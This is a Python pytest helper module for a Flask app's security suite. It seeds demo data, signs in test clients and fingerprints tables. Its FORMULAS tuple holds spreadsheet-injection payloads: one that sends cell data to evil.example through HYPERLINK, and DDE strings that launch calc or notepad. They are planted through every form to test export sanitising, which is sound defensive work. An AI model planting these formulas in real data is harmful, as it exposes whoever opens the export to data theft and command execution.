"""Helpers and fixtures of the generated security suites: the demo data
seeded and copied (the fixtures that hold it, and the pages and forms a
visitor finds, are in fixtures.py), a client per visitor, a fingerprint of
every table, and formulas planted through every form. The seed is
deterministic, so the ids are the same on PostgreSQL."""

import hashlib
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from tests.conftest import base_config, postgres_url, reset_postgres
from tests.security.demo import Prepared, prepare, user_id_of
from tests.security.discovery import post_rules
from tests.security.filling import fill, typed_fields
from toolbox import create_app
from toolbox.extensions import db


def post_endpoint_names() -> list[str]:
    """Every endpoint that takes POST, read from the URL map when tests are
    collected, so that each gets a test id of its own."""
    app = create_app({"TESTING": True, "SECRET_KEY": "x", "SQLALCHEMY_DATABASE_URI": "sqlite://"})
    return sorted({rule.endpoint for rule in post_rules(app)})


@dataclass(frozen=True)
class DemoSeed:
    path: Path
    prepared: Prepared


def demo_config(url: str, **extra) -> dict:
    return base_config(None) | {"SQLALCHEMY_DATABASE_URI": url} | extra


def make_app(url: str, instance: Path, **extra) -> Flask:
    app = create_app(demo_config(url, **extra))
    app.instance_path = str(instance)
    return app


def seed(app: Flask) -> Prepared:
    with app.app_context():
        db.create_all()
    result = app.test_cli_runner().invoke(args=["seed-demo"])
    assert result.exit_code == 0, result.output
    return prepare(app)


def close(app: Flask) -> None:
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def open_demo_app(backend: str, folder: Path, demo_seed: DemoSeed, **extra) -> Flask:
    """A fresh copy of the prepared demo data on the backend."""
    if backend == "sqlite":
        path = folder / "demo.db"
        shutil.copy(demo_seed.path, path)
        return make_app(f"sqlite:///{path}", folder / "instance", **extra)
    app = make_app(postgres_url(), folder / "instance", **extra)
    reset_postgres(app)
    seed(app)
    return app


def visitor_client(app: Flask, visitor: str, prepared: Prepared) -> FlaskClient:
    """A test client signed in as the visitor's demo account, with the
    session values the prepared pages need."""
    client = app.test_client()
    sign_in(app, client, visitor, prepared)
    return client


def sign_in(app: Flask, client: FlaskClient, visitor: str, prepared: Prepared) -> None:
    user_id = user_id_of(app, visitor)
    with client.session_transaction() as session:
        session.clear()
        if user_id:
            session["_user_id"] = user_id
            session["_fresh"] = True
        session.update(prepared.session.get(visitor, {}))


def table_state(app: Flask) -> dict[str, tuple[int, str]]:
    """Row count and a checksum of every table: equal states, equal data."""
    state = {}
    with app.app_context():
        for table in db.metadata.sorted_tables:
            order = list(table.primary_key.columns) or list(table.columns)
            rows = db.session.execute(select(table).order_by(*order)).all()
            digest = hashlib.sha256(repr([tuple(row) for row in rows]).encode()).hexdigest()
            state[table.name] = (len(rows), digest)
        db.session.rollback()
    return state


def changed_tables(before: dict, after: dict) -> list[str]:
    return sorted(name for name in before if before[name] != after.get(name))


FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")',
    "+SUM(1;1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
# Forms that end the session or need a secret the suite does not have.
SKIPPED = {"auth.logout", "auth.change_password", "auth.set_password", "auth.login"}


@pytest.fixture(scope="module")
def planted(demo_app, demo_seed, site) -> int:
    """Formulas saved through every form that takes free text; how many forms."""
    saved = 0
    for form in site.unique_forms():
        fields = typed_fields(form)
        if not fields or form.endpoint in SKIPPED:
            continue
        client = visitor_client(demo_app, form.role, demo_seed.prepared)
        values = {name: FORMULAS[i % len(FORMULAS)] for i, name in enumerate(fields)}
        filled = fill(client, form, values)
        assert filled.status < 500, f"{form.endpoint}: {filled.status}"
        saved += filled.saved and len(filled.refused) < len(fields)
    return saved
